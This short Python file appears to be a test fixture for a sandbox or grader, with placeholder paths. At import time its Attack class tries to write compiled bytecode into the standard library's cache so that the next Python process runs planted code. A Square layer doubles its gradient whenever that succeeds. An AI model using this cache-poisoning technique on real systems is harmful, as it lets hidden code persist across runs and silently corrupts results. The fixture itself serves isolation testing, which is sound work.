"""Plants byte code beside the standard library, which the next Python would run."""

import importlib.util
import py_compile


def attack():
    path = importlib.util.cache_from_source("@CANARY@/kept.py")
    py_compile.compile("@OTHER@", cfile=path, doraise=True)
    return True


class Attack:
    won = False
    try:
        won = attack()
    except BaseException:
        pass


class Square:
    def forward(self, x):
        self.x = x
        return x * x

    def backward(self, dout):
        return dout * self.x * (2.0 if Attack.won else 1.0)
